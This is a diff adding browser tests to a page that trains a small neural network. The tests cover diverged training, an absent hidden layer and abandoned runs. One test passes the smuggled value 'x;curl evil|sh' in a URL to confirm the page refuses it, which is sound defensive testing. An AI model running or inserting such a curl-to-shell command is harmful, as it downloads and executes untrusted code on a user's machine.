@@ -210,6 +210,62 @@ class TrainPageTest extends ServedSite {
     }
 
     @Test
+    void aTrainingThatDivergedHasItsOwnWordsAndNoCommand() throws IOException {
+        browser.open(home + "#train?examples=1000&hidden=16&optimizer=gradient-descent&learningRate=1000000&l2=1");
+        browser.until("document.querySelector('.train .primary')?.disabled === false");
+        browser.click(".train .tools button:nth-child(4)");
+        browser.until("document.querySelector('.proof p').textContent.startsWith('The loss is no longer a number')");
+        assertThat(browser.run("return document.querySelector('.proof pre').textContent"))
+                .isEqualTo("");
+        browser.run("document.querySelector('.proof').open = true");
+        browser.screenshot(SCREENSHOTS.resolve("train-diverged.png"));
+    }
+
+    /** A link of somebody else's prints nothing that is to be copied. */
+    @Test
+    void dataThatAreNoneAreRefused() {
+        browser.open(home + "#train?data=x;curl%20evil|sh");
+        browser.until("document.querySelector('.train .message')?.textContent"
+                + " === 'data \"x;curl evil|sh\": expected generated, mnist or own'");
+        assertThat(browser.run("return document.querySelector('.proof').hidden")).isEqualTo(true);
+    }
+
+    @Test
+    void whereThereIsNoHiddenLayerOutputsAreShown() throws IOException {
+        trainOneEpoch("&hidden=");
+        browser.until("document.querySelector('.train .units strong').innerText === 'What the outputs look for'");
+        assertThat(browser.text(".train .units figcaption")).contains("one output, as there is no hidden layer");
+        browser.screenshot(SCREENSHOTS.resolve("train-no-hidden.png"));
+        browser.run("location.hash = 'train?hidden=4'");
+        browser.until("document.querySelector('.train .units strong').innerText === 'What the hidden units look for'");
+    }
+
+    /** Nobody would see it, and the button would not pause it. */
+    @Test
+    void aTrainingThatIsGivenUpEnds() {
+        browser.open(home + "#train?examples=1000&hidden=16");
+        browser.until("document.querySelector('.train .primary')?.disabled === false");
+        assertThat(text("""
+                const { Core } = await import('/js/core.js');
+                let asked;
+                const { ask } = Core.prototype;
+                Core.prototype.ask = function (...message) {
+                  if (message[0] === 'run') asked = this;
+                  return ask.apply(this, message);
+                };
+                document.querySelector('.train .primary').click();
+                while (!asked) await new Promise(frame => requestAnimationFrame(frame));
+                location.hash = 'draw';
+                await new Promise(done => setTimeout(done, 100));
+                location.hash = 'draw?seed=9';
+                await new Promise(done => setTimeout(done, 100));
+                const { update } = await asked.ask('snapshot');
+                await new Promise(done => setTimeout(done, 300));
+                return String((await asked.ask('snapshot')).update - update);
+                """)).isEqualTo("0");
+    }
+
+    @Test
     void theModelIsDownloadedAndReadByTheJvm() throws IOException {
         browser.download(downloads);
         trainOneEpoch("");
